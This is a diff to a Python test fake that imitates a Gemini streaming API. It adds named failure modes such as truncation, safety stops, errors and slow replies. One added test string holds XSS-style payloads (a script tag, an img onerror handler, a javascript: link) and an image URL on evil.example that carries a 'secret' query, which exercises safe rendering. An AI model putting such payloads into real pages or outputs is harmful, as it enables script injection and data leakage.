@@ -2,16 +2,19 @@
 
 In a test: `fake.script(Answer(...))` decides the next answer, `fake.calls` tells what was asked and whether the caller
 went away. As a process: `python -m tests.fake_gemini PORT` answers every prompt with the words of DEFAULT_WORDS;
-`POST /script` with {"status"?, "chunks"?, "pause"?} decides the next answer; `GET /calls` tells the calls.
+`POST /script` decides the next answer: {"knob": one of KNOBS}, {"text", "finish"?, "pause"?, "cut"?}, which is
+said word by word, or the fields of Answer themselves; `GET /calls` tells the calls.
 """
 
 from __future__ import annotations
 
 import asyncio
 import json
+import re
 import sys
 import time
 from collections import deque
+from collections.abc import Callable
 from dataclasses import asdict, dataclass, field
 from typing import Any
 
@@ -58,6 +61,38 @@ class Answer:
     cut: bool = False
 
 
+def spoken(text: str, finish: str = "STOP", **more: Any) -> Answer:
+    """A text said word by word."""
+    return Answer(words(*re.findall(r"\s*\S+\s*", text), finish=finish), **more)
+
+
+GARBAGE = (
+    "<script>document.title = 'owned'</script>\n\n![pixel](https://evil.example/p.png?q=secret) "
+    "<img src=x onerror=\"document.title='owned'\"> [click](javascript:alert(1)) [more](https://evil.example/a)\n\n"
+    "| a | b |\n|---|---|\n| 1 |\n\n######## \u0000\u202e ``` **[unclosed](\n\n- \n  - [ ] x\n\ud800"
+)
+"""Markdown that is broken, and that would reach out if anybody let it."""
+
+KNOBS: dict[str, Callable[[], Answer]] = {
+    "empty": lambda: Answer(words("\n")),
+    "length": lambda: spoken("Half of what was to", "MAX_TOKENS"),
+    "safety": lambda: spoken("Half of what was to", "SAFETY"),
+    "cut": lambda: Answer([chunk("Half of "), chunk("what was to")], cut=True),
+    "garbage": lambda: spoken(GARBAGE),
+    "slow": lambda: spoken("Slowly, one word after the other, comes all of this text. " * 20, pause=0.25),
+    "error": lambda: Answer(status=500, body=error(500, "INTERNAL", "out of order")),
+    "busy": lambda: Answer(status=429, body=error(429, "RESOURCE_EXHAUSTED", "Quota")),
+}
+"""Ways to go wrong, by name."""
+
+
+def scripted(given: dict[str, Any]) -> Answer:
+    """The answer that `POST /script` describes."""
+    if "knob" in given:
+        return KNOBS[given["knob"]]()
+    return spoken(**given) if "text" in given else Answer(**given)
+
+
 @dataclass
 class Call:
     """One call: what was asked, and when the caller went away before the end, in monotonic seconds."""
@@ -100,7 +135,7 @@ class FakeGemini:
         return _Streamed(call, self._answers.popleft() if self._answers else Answer())
 
     async def _script(self, request: Request) -> Response:
-        self.script(Answer(**await request.json()))
+        self.script(scripted(await request.json()))
         return Response(status_code=204)
 
     async def _calls(self, _: Request) -> Response:
